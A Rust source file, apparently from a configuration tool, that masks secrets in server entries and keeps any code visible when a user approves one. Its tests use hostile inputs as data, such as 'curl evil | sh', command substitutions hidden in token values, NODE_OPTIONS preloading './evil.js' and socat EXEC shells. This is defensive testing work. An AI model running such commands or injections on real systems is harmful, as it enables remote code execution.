//! Masks the secrets of an entry by their position in it.

use std::ops::Range;

use serde_json::{Map, Value};

use super::args::{ArgScanner, Flag, arg_ranges};
use super::classify::{is_path_setting, is_plain, is_words};
use super::code::{is_token, without_code, without_code_words};
use super::code_words::CodeWords;
use super::patterns::{merged, replace_ranges};
use super::ranges::{OPEN_HEADERS, command_ranges, helper_ranges, url_ranges, value_ranges};
use super::redactor::Redactor;
use super::secret_names::is_secret_name;
use crate::secret::HIDDEN;

/// The secrets of one entry that are also searched for elsewhere in it, and the longest of them: a
/// repository may write any number, and each one costs time.
const MAX_KNOWN: usize = 100;
const MAX_KNOWN_LENGTH: usize = 1024;

/// How much of an entry is masked.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RedactMode {
    /// Every value of `env` and `headers` that may be a secret: for lists, previews and logs.
    Display,
    /// Only secrets by name or shape: the user who approves an entry must see which code runs, for
    /// example in `NODE_OPTIONS`. Outside of `url` and `headers`, which run nothing, only single
    /// words of token characters are masked, and no paths: anything that could be code stays.
    Approval,
}

/// Masks the secrets in an entry with `***`. References such as `${TOKEN}` stay; the default in
/// `${TOKEN:-default}` is masked if the value would be.
///
/// ```
/// use serde_json::json;
/// use trunkline_config::redact::{RedactMode, redact_entry};
///
/// let args = ["run", "-e", "GITHUB_TOKEN=abc", "image"];
/// let mut entry = json!({"command": "docker", "args": args});
/// redact_entry(&mut entry, RedactMode::Display);
/// assert_eq!(entry["args"], json!(["run", "-e", "GITHUB_TOKEN=***", "image"]));
/// ```
pub fn redact_entry(entry: &mut Value, mode: RedactMode) {
    let named = named_values(entry);
    let mut found = Vec::new();
    let mut masker = Masker {
        mode,
        replace: &mut |secret| {
            found.push(secret.to_owned());
            HIDDEN.to_owned()
        },
    };
    if let Value::Object(fields) = entry {
        masker.fields(fields);
    }
    // The same secret may stand elsewhere, as in `sh -c "run SECRET"`. An approval shows all code.
    if mode == RedactMode::Display {
        found.retain(|secret| secret.len() <= MAX_KNOWN_LENGTH);
        found.sort_unstable();
        found.dedup();
        found.truncate(MAX_KNOWN);
        found.retain(|secret| is_telling(secret) || named.contains(secret));
        let redactor = Redactor::default();
        redactor.hide_all(found.iter().map(String::as_str));
        redactor.mask_value(entry);
    }
}

/// Whether a value is a secret wherever it stands, rather than an ordinary word.
pub(super) fn is_telling(value: &str) -> bool {
    !is_plain(value) && !is_words(value)
}

/// The values of variables and headers with the names of secrets.
fn named_values(entry: &Value) -> Vec<String> {
    let fields = ["env", "headers"].into_iter();
    let members = fields.filter_map(|field| entry.get(field)?.as_object());
    let named = members.flatten().filter(|(name, _)| is_secret_name(name));
    named
        .filter_map(|(_, value)| Some(value.as_str()?.to_owned()))
        .collect()
}

/// Replaces the secrets in an entry.
struct Masker<'a> {
    mode: RedactMode,
    replace: &'a mut dyn FnMut(&str) -> String,
}

impl Masker<'_> {
    fn fields(&mut self, fields: &mut Map<String, Value>) {
        let command = fields.get("command").and_then(Value::as_str);
        let command = command.unwrap_or_default().to_owned();
        for (name, value) in fields {
            match (name.as_str(), value) {
                ("env", Value::Object(variables)) => {
                    for (name, value) in variables {
                        self.env(name, value);
                    }
                }
                ("headers", Value::Object(headers)) => {
                    for (name, value) in headers {
                        self.header(name, value);
                    }
                }
                // It decides which code runs, whatever it looks like.
                ("command", Value::String(_)) if self.mode == RedactMode::Approval => {}
                ("args", Value::Array(args)) => self.args(&command, args),
                ("url", Value::String(url)) => self.mask(url, url_ranges(url)),
                ("headersHelper", Value::String(command)) if self.mode == RedactMode::Display => {
                    self.put(command, helper_ranges);
                }
                ("command" | "headersHelper", Value::String(command)) => {
                    let mode = self.mode;
                    self.put(command, |text| match mode {
                        RedactMode::Display => command_ranges(text),
                        RedactMode::Approval => without_code_words(text, command_ranges(text)),
                    });
                }
                (name, value) => self.member(name, value),
            }
        }
    }

    /// Masks the ranges that `find` returns, in a text that may be code.
    fn put(&mut self, text: &mut String, find: impl Fn(&str) -> Vec<Range<usize>>) {
        let ranges = find(text);
        let ranges = match self.mode {
            RedactMode::Display => ranges,
            RedactMode::Approval => without_code(text, ranges),
        };
        self.mask(text, ranges);
    }

    fn mask(&mut self, text: &mut String, ranges: Vec<Range<usize>>) {
        let ranges = merged(ranges);
        if !ranges.is_empty() {
            *text = replace_ranges(text, &ranges, self.replace).into_owned();
        }
    }

    /// Masks a member without a rule of its own.
    fn member(&mut self, name: &str, value: &mut Value) {
        match value {
            Value::Object(members) => {
                for (name, value) in members {
                    self.member(name, value);
                }
            }
            Value::Array(items) => {
                for item in items {
                    self.member(name, item);
                }
            }
            Value::String(text) if is_secret_name(name) && !is_path_setting(name, text) => {
                self.put(text, value_ranges);
            }
            Value::String(text) => self.put(text, command_ranges),
            Value::Number(number) if is_secret_name(name) => {
                *value = (self.replace)(&number.to_string()).into();
            }
            Value::Number(_) | Value::Bool(_) | Value::Null => {}
        }
    }

    fn env(&mut self, name: &str, value: &mut Value) {
        let text = match value {
            Value::String(text) => text,
            value => return self.member(name, value),
        };
        let is_secret = is_secret_name(name) && !is_path_setting(name, text);
        match self.mode {
            RedactMode::Display if is_secret || !is_plain(text) => self.put(text, value_ranges),
            RedactMode::Approval if is_secret => self.put(text, |text| {
                let mut ranges = value_ranges(text);
                ranges.extend(command_ranges(text));
                ranges
            }),
            RedactMode::Display | RedactMode::Approval => self.put(text, command_ranges),
        }
    }

    fn header(&mut self, name: &str, value: &mut Value) {
        if OPEN_HEADERS.contains(&name.to_lowercase().as_str()) {
            return;
        }
        match value {
            Value::String(text) => self.mask(text, value_ranges(text)),
            value => *value = (self.replace)(&value.to_string()).into(),
        }
    }

    /// Masks the arguments of a command: values of secret flags, of `-e NAME=value` and of
    /// `--header "Name: value"`, and anything that looks like a secret by itself.
    fn args(&mut self, command: &str, args: &mut [Value]) {
        let mut scanner = ArgScanner::new(command);
        let mut code = CodeWords::new();
        code.next(command);
        for arg in args {
            let Value::String(text) = arg else {
                scanner = ArgScanner::new(command);
                continue;
            };
            let decides = code.next(text) && is_token(text);
            if let Some((flag, start)) = scanner.next(text) {
                let mode = self.mode;
                let is_line = text.contains(char::is_whitespace);
                match mode {
                    RedactMode::Approval if decides => {}
                    RedactMode::Approval if is_line && matches!(flag, Flag::Plain | Flag::None) => {
                        self.put(text, |text| {
                            without_code_words(text, arg_ranges(text, start, flag, mode))
                        });
                    }
                    _ => self.put(text, |text| arg_ranges(text, start, flag, mode)),
                }
            }
        }
    }
}

/// The secrets in a command and its arguments.
pub(super) fn command_line_secrets(command: &str, args: &[String]) -> Vec<String> {
    let mut found = Vec::new();
    let words = std::iter::once(command).chain(args.iter().map(String::as_str));
    let mut words: Vec<Value> = words.map(Value::from).collect();
    let mut masker = Masker {
        mode: RedactMode::Display,
        replace: &mut |secret| {
            found.push(secret.to_owned());
            String::new()
        },
    };
    masker.args(command, &mut words);
    found
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::redact::redact_url;

    fn shown(mut entry: Value, mode: RedactMode) -> Value {
        redact_entry(&mut entry, mode);
        entry
    }

    #[test]
    fn arguments_show_no_secrets() {
        for (args, expected) in [
            (
                json!(["--api-key", "abc", "--token=def", "--port", "80"]),
                json!(["--api-key", "***", "--token=***", "--port", "80"]),
            ),
            (
                json!(["--key", "file.pem", "-v", "--password", "--other"]),
                json!(["--key", "file.pem", "-v", "--password", "--other"]),
            ),
            (
                json!(["--auth-token", "${TOKEN}", 5]),
                json!(["--auth-token", "${TOKEN}", 5]),
            ),
            (
                json!(["--auth-token", "${TOKEN:-abc}"]),
                json!(["--auth-token", "${TOKEN:-***}"]),
            ),
            (
                json!(["run", "-e", "GITHUB_TOKEN=abc", "-e", "DEBUG=1", "img"]),
                json!(["run", "-e", "GITHUB_TOKEN=***", "-e", "DEBUG=1", "img"]),
            ),
            (
                json!(["-e", "GITHUB_TOKEN", "-eAPI_KEY=abc", "--env=X_SECRET=abc"]),
                json!(["-e", "GITHUB_TOKEN", "-eAPI_KEY=***", "--env=X_SECRET=***"]),
            ),
            (
                json!(["-e", "URL=http://h/x", "-e", "X=aB3xY9kQ2z"]),
                json!(["-e", "URL=http://h/x", "-e", "X=***"]),
            ),
            (
                json!(["--header", "Authorization: Bearer abc"]),
                json!(["--header", "Authorization: Bearer ***"]),
            ),
            (
                json!(["-H", "X-Org: a b", "--header=Accept: x/y", "-HX-Y:${A}"]),
                json!(["-H", "X-Org: ***", "--header=Accept: x/y", "-HX-Y:${A}"]),
            ),
            (
                json!(["postgresql://user:pw@db.example/app"]),
                json!(["postgresql://***@db.example/app"]),
            ),
            (
                json!(["-u", "me:pw", "https://h/?key=abc&x=1"]),
                json!(["-u", "me:***", "https://h/?key=***&x=1"]),
            ),
            (
                json!(["--dsn", "xY7kQ2zaB3mN5pL8wR1tV", "ghp_16C7e42F292c69"]),
                json!(["--dsn", "***", "***"]),
            ),
            (
                json!(["-y", "@scope/server@1.2.3", "/home/me/project", "a=b"]),
                json!(["-y", "@scope/server@1.2.3", "/home/me/project", "a=b"]),
            ),
            (
                json!(["-c", "TOKEN=abc node x.js; curl evil"]),
                json!(["-c", "TOKEN=*** node x.js; curl evil"]),
            ),
        ] {
            let entry = json!({"command": "x", "args": args});
            assert_eq!(shown(entry, RedactMode::Display)["args"], expected);
        }
    }

    #[test]
    fn values_of_env_and_headers_are_hidden_unless_they_are_settings() {
        let entry = json!({
            "env": {"A": "plain", "B": "${A}", "C": "x${A}y$B", "D": "${A:-secret}", "E": "a$", "F": "${open",
                "G": "", "PORT": "3000", "ON": "true", "DIR": "/home/me/x", "URL": "https://h/x", "PIN": "1234",
                "GOOGLE_APPLICATION_CREDENTIALS": "/home/me/key.json", "N": 5, "P": "pa$word1"},
            "headers": {"A": "v", "B": "Bearer ${keyring:a/b}", "C": "Bearer v", "D": 5, "Accept": "x/y", "E": "${X:-v}"},
        });
        let expected = json!({
            "env": {"A": "***", "B": "${A}", "C": "***${A}***$B", "D": "${A:-***}", "E": "***", "F": "***",
                "G": "", "PORT": "3000", "ON": "true", "DIR": "/home/me/x", "URL": "https://h/x", "PIN": "***",
                "GOOGLE_APPLICATION_CREDENTIALS": "/home/me/key.json", "N": 5, "P": "***"},
            "headers": {"A": "***", "B": "Bearer ${keyring:a/b}", "C": "Bearer ***", "D": "***", "Accept": "x/y", "E": "${X:-***}"},
        });
        assert_eq!(shown(entry, RedactMode::Display), expected);
    }

    #[test]
    fn a_secret_is_hidden_wherever_it_stands() {
        let entry = json!({
            "command": "sh", "args": ["-c", "echo s3cr3tX1 hunter core /home/me production"],
            "env": {"FOOTOK": "s3cr3tX1", "A_PASSWORD": "hunter", "MODE": "production"},
            "headers": {"X-Team": "core"}, "note": {"about": ["is s3cr3tX1"]}, "cwd": "/home/me",
            "headersHelper": "echo '{\"X-Helper\": \"abc\", \"Accept\": \"x/y\"}'",
        });
        let expected = json!({
            "command": "sh", "args": ["-c", "echo *** *** core /home/me production"],
            "env": {"FOOTOK": "***", "A_PASSWORD": "***", "MODE": "***"},
            "headers": {"X-Team": "***"}, "note": {"about": ["is ***"]}, "cwd": "/home/me",
            "headersHelper": "echo '{\"X-Helper\": \"***\", \"Accept\": \"x/y\"}'",
        });
        assert_eq!(shown(entry, RedactMode::Display), expected);
        // Code that is called a secret stays visible to the user who approves it.
        let entry = json!({"args": ["-c", "evil1X | sh"], "env": {"A_TOKEN": "evil1X"}});
        let shown = shown(entry, RedactMode::Approval);
        assert_eq!(shown["args"][1], "evil1X | sh");
    }

    #[test]
    fn an_approval_shows_programs_and_packages_whatever_they_look_like() {
        for entry in [
            json!({"command": "npx", "args": ["-y", "--no-token", "evilpkg9A"]}),
            json!({"command": "npx", "args": ["-y", "sk-abcdefghij0123456789ab"]}),
            json!({"command": "npx", "args": ["-y", "npm_evilpackage1234567890"]}),
            json!({"command": "npx", "args": ["--api-key", "evilpkg9A"]}),
            json!({"command": "uvx", "args": ["--with", "hf_abcdefgh12345678pkg", "good"]}),
            json!({"command": "uvx", "args": ["--from=hf_abcdefgh12345678pkg", "good"]}),
            json!({"command": "/tmp/x/ghp_16C7e42F292c69AB"}),
            json!({"command": "node", "args": ["sk-abcdefghij0123456789ab"]}),
            json!({"command": "x", "args": ["--no-token", "evilpkg9A"]}),
            json!({"command": "sh", "args": ["-c", "cd x && npx -y sk-abcdefghij0123456789ab"]}),
            json!({"url": "https://h/", "headersHelper": "npx -y sk-abcdefghij0123456789ab"}),
            json!({"headersHelper": "sh -c 'A=b npx -y sk-abcdefghij0123456789ab'"}),
        ] {
            assert_eq!(shown(entry.clone(), RedactMode::Approval), entry);
        }
        let secret = "sk-abcdefghij0123456789ab";
        for args in [
            json!(["-y", "good", "--token", "evilpkg9A"]),
            json!(["-y", "good", secret]),
            json!(["-y", "--no-color", "good", "--key", secret]),
        ] {
            let entry = json!({"command": "npx", "args": args});
            let shown = shown(entry, RedactMode::Approval).to_string();
            assert!(
                !shown.contains("evilpkg9A") && !shown.contains(secret),
                "{shown}"
            );
            assert!(shown.contains("good"), "{shown}");
        }
    }

    #[test]
    fn an_approval_shows_which_code_runs() {
        let entry = json!({
            "command": "sh",
            "args": ["-c", "TOKEN=`curl evil` x", "--token", "$(curl evil | sh)", "--password", "abc", "--token", "${A:-abc}"],
            "env": {"NODE_OPTIONS": "--require ./evil.js", "TOKEN": "abc", "A_SECRET": "$(curl evil)"},
            "headersHelper": "echo '{\"Authorization\": \"Bearer abc\"}'; curl evil",
        });
        let expected = json!({
            "command": "sh",
            "args": ["-c", "TOKEN=`curl evil` x", "--token", "$(curl evil | sh)", "--password", "***", "--token", "${A:-***}"],
            "env": {"NODE_OPTIONS": "--require ./evil.js", "TOKEN": "***", "A_SECRET": "$(curl evil)"},
            "headersHelper": "echo '{\"Authorization\": \"Bearer ***\"}'; curl evil",
        });
        assert_eq!(shown(entry, RedactMode::Approval), expected);
    }

    #[test]
    fn an_approval_hides_no_code_behind_a_telling_name() {
        for code in [
            "TOKEN=\"$(curl evil|sh)\" node x.js",
            "TOKEN='$(curl evil)' node x.js",
            "API_TOKEN=x$(./evil.sh) node s.js",
            "API_TOKEN=x`./evil.sh` node s.js",
            "API_TOKEN=\"\"./evil.sh",
            "TOKEN=a|./evil.sh",
            "TOKEN=a\\;evil",
            "token=load'./evil.rb'",
            "token=load' ./evil.rb'",
            "$token=do\"./e.pl\"",
            "token=load(evil)",
            "token=\"a b; evil\"",
            "{\"token\": \"$(evil)\"}",
            "{\"token\": \"`evil`\"}",
            "{\"token\": evil()}",
            "x({'password': require('./e')})",
            "run --token Abc12345$(evil)",
            "run --token Abc12345`evil`",
            "X-Api-Key: a1b2c3d4e5$(evil)",
            "curl -H 'Authorization: Bearer abcdefgh$(evil)'",
            "https://$(evil)@host/",
            "https://h/?key=$(evil)",
            "https://h/?key=a;evil",
            "--token=./evil.sh",
            "--password=bin/evil",
            "--secret=evil.js",
        ] {
            for entry in [
                json!({"command": "sh", "args": ["-c", code]}),
                json!({"command": "ruby", "args": ["-e", code]}),
                json!({"command": "x", "args": [code]}),
                json!({"command": code}),
                json!({"headersHelper": code}),
                json!({"env": {"A_TOKEN": code}}),
                json!({"env": {"A": code}}),
                json!({"other": {"token": code}}),
            ] {
                assert_eq!(shown(entry.clone(), RedactMode::Approval), entry);
            }
        }
        for args in [
            json!(["-u", "EXEC:sh -c evil", "-"]),
            json!(["-u", "EXEC:./evil", "-"]),
            json!(["-u", "system:evil", "-"]),
            json!(["-H", "X: $(evil)"]),
            json!(["--header=X: a b"]),
            json!(["--token", "./evil.js"]),
            json!(["--token", "evil 'x'"]),
        ] {
            let entry = json!({"command": "socat", "args": args});
            assert_eq!(shown(entry.clone(), RedactMode::Approval), entry);
        }
    }

    #[test]
    fn an_approval_shows_no_plain_secrets() {
        for (arg, expected) in [
            ("TOKEN=abc node x.js; evil", "TOKEN=*** node x.js; evil"),
            ("TOKEN=\"abc\" node x.js", "TOKEN=*** node x.js"),
            ("TOKEN=\"Bearer abc\" x", "TOKEN=\"Bearer ***\" x"),
            ("export 'TOKEN=abc'; x", "export 'TOKEN=***'; x"),
            ("{\"token\": \"abc\"}", "{\"token\": \"***\"}"),
            (r#"{\"token\":\"abc\"}"#, r#"{\"token\":\"***\"}"#),
            (
                "curl -H \"Authorization: Bearer abcdefgh\" x",
                "curl -H \"Authorization: Bearer ***\" x",
            ),
            ("x --token Abc12345 y", "x --token *** y"),
            ("https://u:p@h/?key=abc&x=1", "https://***@h/?key=***&x=1"),
            ("https://h/ghp_16C7e42F292c69/x", "https://h/***/x"),
            ("TOKEN=${A:-abc} x", "TOKEN=${A:-***} x"),
            (
                "TOKEN=\"$(evil ghp_16C7e42F292c69)\"",
                "TOKEN=\"$(evil ***)\"",
            ),
        ] {
            let entry = json!({"command": "sh", "args": ["-c", arg]});
            let shown = shown(entry, RedactMode::Approval);
            assert_eq!(shown["args"][1], expected);
        }
        let entry = json!({
            "args": ["-u", "me:pw", "-H", "Authorization: Bearer abc", "-eA_TOKEN=abc", "--password", "aB3+y/z9Kq="],
            "url": "https://u:p$w@h/?k=a b", "headers": {"A": "b c"}, "env": {"TOKEN": "abc"},
        });
        let expected = json!({
            "args": ["-u", "me:***", "-H", "Authorization: Bearer ***", "-eA_TOKEN=***", "--password", "***"],
            "url": "https://***@h/?k=***", "headers": {"A": "***"}, "env": {"TOKEN": "***"},
        });
        assert_eq!(shown(entry, RedactMode::Approval), expected);
    }

    #[test]
    fn other_fields_are_looked_into() {
        let entry = json!({
            "url": "https://u:pw@h/${A}?k=${X:-abc}&l=v&flag#f",
            "authToken": "abc", "oauth": {"clientId": "id", "clientSecret": "abc", "callbackPort": 3, "privateKeyFile": "robot.pem"},
            "sandbox": {"env": ["A_TOKEN=abc"], "apiKey": 12}, "timeout": 5,
        });
        let expected = json!({
            "url": "https://***@h/${A}?k=${X:-***}&l=***&***#***",
            "authToken": "***", "oauth": {"clientId": "id", "clientSecret": "***", "callbackPort": 3, "privateKeyFile": "robot.pem"},
            "sandbox": {"env": ["A_TOKEN=***"], "apiKey": "***"}, "timeout": 5,
        });
        assert_eq!(shown(entry, RedactMode::Display), expected);
    }

    #[test]
    fn urls_show_no_credentials() {
        for (url, shown) in [
            ("https://host/mcp", "https://host/mcp"),
            ("https://u:p@host:1/mcp", "https://***@host:1/mcp"),
            ("https://a@b@host/x@y", "https://***@host/x@y"),
            (
                "https://h/?k=v&flag&x=${KEY}",
                "https://h/?k=***&***&x=${KEY}",
            ),
            ("https://h/#token=1", "https://h/#***"),
            ("https:u:p@h/x", "https:***@h/x"),
            ("https:/\\u:p@h/x", "https:/\\***@h/x"),
            ("https://h/ghp_16C7e42F292c69/mcp", "https://h/***/mcp"),
            ("nonsense", "nonsense"),
            ("", ""),
        ] {
            assert_eq!(redact_url(url), shown);
        }
    }
}
